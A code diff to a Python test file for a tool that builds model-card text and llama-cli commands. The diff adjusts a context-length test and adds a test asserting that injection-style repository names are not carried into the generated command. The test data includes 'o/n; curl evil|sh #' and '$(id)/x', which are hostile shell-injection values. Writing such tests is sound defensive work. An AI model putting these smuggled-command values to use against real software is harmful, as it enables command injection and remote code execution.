@@ -7,7 +7,7 @@ from dataclasses import replace
 from lwq.record.record import Record
 from lwq.report import running
 from lwq.report.card import card_body
-from tests.sample_record import CONTEXTS, sample_record
+from tests.sample_record import sample_record
 
 
 def published(*, names: dict[str, str]) -> Record:
@@ -47,7 +47,8 @@ def test_no_context_is_larger_than_the_model_was_trained_for() -> None:
     record = sample_record()
     row = running.example(record)
     assert row
-    assert running.lines(record, replace(row, contexts=CONTEXTS[:1])).endswith("-c 4096")
+    short = replace(record, model=replace(record.model, n_ctx_train=4096))
+    assert running.lines(short, row).endswith("-c 4096")
     assert "trained with 8,192 tokens" in running.introduction(record, row)
 
 
@@ -55,3 +56,13 @@ def test_the_prompt_is_shown_as_it_is_where_the_model_has_a_template() -> None:
     record = sample_record()
     assert "```\n<|im_start|>system\n{system}<|im_end|>" in card_body(record)
     assert "chat template:" not in card_body(replace(record, model=replace(record.model, prompt="")))
+
+
+def test_what_is_no_repository_stands_in_no_command() -> None:
+    record = published(names={})
+    row = running.example(record)
+    assert row
+    for odd in ("o/n; curl evil|sh #", "$(id)/x", "o/n m"):
+        changed = replace(record, card=replace(record.card, repository=odd))
+        assert "evil" not in running.lines(changed, row)
+        assert running.lines(changed, row).startswith("llama-cli -m ")
